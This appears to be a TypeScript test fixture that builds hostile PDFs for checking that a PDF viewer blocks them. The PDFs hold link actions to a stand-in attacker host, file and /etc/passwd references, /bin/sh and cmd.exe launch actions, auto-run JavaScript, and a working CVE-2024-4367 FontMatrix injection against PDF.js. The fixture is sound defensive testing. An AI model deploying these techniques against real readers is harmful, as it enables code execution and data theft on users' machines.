/**
 * PDFs that try to get out of the reader, made by code here so a reader sees each trick:
 * link actions that would open the web, a file or a program or run JavaScript, document-level
 * JavaScript, and the CVE-2024-4367 payload (JavaScript smuggled into a Type1 font's FontMatrix,
 * drawn with a pattern fill so a vulnerable PDF.js would compile the glyphs into code).
 */
import { PDFDocument, PDFName, PDFString, StandardFonts, type PDFDict, type PDFObject, type PDFRef } from 'pdf-lib';

const a4 = { width: 595, height: 842 } as const;

/** What the payloads would do if they ran: the spec asserts none of it happened. */
export const payloadEffects = {
  global: '__pdfPayloadRan',
  title: 'PWNED',
  hash: '#pwned',
} as const;

const payload = `window.${payloadEffects.global} = true; document.title = '${payloadEffects.title}'; location.hash = '${payloadEffects.hash}';`;

/** A string for a PDF literal: parentheses and backslashes escaped (pdf-lib writes the text as given). */
function literal(text: string): PDFString {
  return PDFString.of(text.replace(/[\\()]/g, (character) => `\\${character}`));
}

/** The link rectangles on page 1, in PDF points from the bottom left, each with the action it carries. */
export const hostileLinks = [
  { label: 'web', rect: [50, 700, 545, 730], action: { S: 'URI', URI: 'https://evil.example/steal' } },
  { label: 'javascript: URI', rect: [50, 650, 545, 680], action: { S: 'URI', URI: `javascript:${payload}` } },
  { label: 'file URI', rect: [50, 600, 545, 630], action: { S: 'URI', URI: 'file:///etc/passwd' } },
  { label: 'launch', rect: [50, 550, 545, 580], action: { S: 'Launch', F: '/bin/sh', Win: { F: 'cmd.exe' } } },
  { label: 'JavaScript', rect: [50, 500, 545, 530], action: { S: 'JavaScript', JS: payload } },
  {
    label: 'submit form',
    rect: [50, 450, 545, 480],
    action: { S: 'SubmitForm', F: { FS: 'URL', F: 'https://evil.example/submit' } },
  },
  { label: 'remote go-to', rect: [50, 400, 545, 430], action: { S: 'GoToR', F: '/etc/passwd', D: [0, 'Fit'] } },
] as const;

export async function hostileActionsPdf(): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const font = await doc.embedFont(StandardFonts.Helvetica);
  const page = doc.addPage([a4.width, a4.height]);
  const context = doc.context;
  page.drawText('Every link on this page tries to leave the reader.', { x: 50, y: 780, size: 16, font });
  const action = (spec: (typeof hostileLinks)[number]['action']): PDFDict => {
    const dict = context.obj({ Type: 'Action', S: spec.S });
    const set = (key: string, value: PDFObject) => dict.set(PDFName.of(key), value);
    if ('URI' in spec) set('URI', literal(spec.URI));
    if ('JS' in spec) set('JS', literal(spec.JS));
    if (spec.S === 'Launch') {
      set('F', literal(spec.F));
      set('Win', context.obj({ F: literal(spec.Win.F), P: literal('/c calc') }));
    }
    if (spec.S === 'SubmitForm') set('F', context.obj({ FS: 'URL', F: literal(spec.F.F) }));
    if (spec.S === 'GoToR') {
      set('F', literal(spec.F));
      set('D', context.obj([0, 'Fit']));
    }
    return dict;
  };
  const annotations: PDFRef[] = hostileLinks.map((link) => {
    page.drawText(`Link: ${link.label}`, { x: link.rect[0] + 4, y: link.rect[1] + 8, size: 14, font });
    return context.register(
      context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [...link.rect], Border: [0, 0, 0], A: action(link.action) }),
    );
  });
  page.node.set(PDFName.of('Annots'), context.obj(annotations));
  // Document-level JavaScript three ways: on open, in the names tree, and when the page opens.
  const script = () => context.obj({ Type: 'Action', S: 'JavaScript', JS: literal(payload) });
  doc.catalog.set(PDFName.of('OpenAction'), script());
  doc.catalog.set(
    PDFName.of('Names'),
    context.obj({ JavaScript: context.obj({ Names: [literal('payload'), script()] }) }),
  );
  page.node.set(PDFName.of('AA'), context.obj({ O: script() }));
  return doc.save({ useObjectStreams: false });
}

/** CVE-2024-4367: a Type1 font whose FontMatrix ends in a string that closes the generated code and adds the payload. */
export async function fontMatrixPayloadPdf(): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const page = doc.addPage([a4.width, a4.height]);
  const context = doc.context;
  // An empty CFF program: PDF.js cannot load it as a font face and falls back to drawing glyph paths.
  const fontFile = context.register(context.stream(new Uint8Array(0), { Subtype: 'Type2' }));
  const descriptor = context.register(
    context.obj({
      Type: 'FontDescriptor',
      FontName: 'EVILXX+Payload',
      Flags: 32,
      FontBBox: [-6, -12, 579, 713],
      ItalicAngle: 0,
      Ascent: 751,
      Descent: -173,
      CapHeight: 713,
      StemV: 100,
      MissingWidth: 250,
      FontFile3: fontFile,
    }),
  );
  const font = context.register(
    context.obj({
      Type: 'Font',
      Subtype: 'Type1',
      BaseFont: 'EVILXX+Payload',
      FirstChar: 65,
      LastChar: 102,
      Widths: Array.from({ length: 38 }, () => 500),
      Encoding: 'WinAnsiEncoding',
      FontMatrix: [0.1, 0, 0, 0.1, 0, literal(`1);\n${payload}\n//`)],
      FontDescriptor: descriptor,
    }),
  );
  const tiling = context.register(
    context.stream('0.65 g 0 0 16 16 re f 0.15 g 0 0 8 8 re f 8 8 8 8 re f', {
      Type: 'Pattern',
      PatternType: 1,
      PaintType: 1,
      TilingType: 1,
      BBox: [0, 0, 16, 16],
      XStep: 16,
      YStep: 16,
      Resources: {},
    }),
  );
  const shading = context.register(
    context.obj({
      Type: 'Pattern',
      PatternType: 2,
      Shading: {
        ShadingType: 2,
        ColorSpace: 'DeviceRGB',
        Coords: [46, 400, 537, 400],
        Function: { FunctionType: 2, Domain: [0, 1], C0: [0, 0, 1], C1: [1, 0.6, 0], N: 1 },
      },
    }),
  );
  page.node.set(PDFName.of('Resources'), context.obj({ Font: { F1: font }, Pattern: { P1: tiling, P2: shading } }));
  const content = "BT 50 500 Td 117 TL /F1 150 Tf /Pattern cs /P1 scn (AbCdEf) Tj /P2 scn (AbCdEf) ' ET";
  page.node.set(PDFName.of('Contents'), context.register(context.stream(content)));
  return doc.save({ useObjectStreams: false });
}
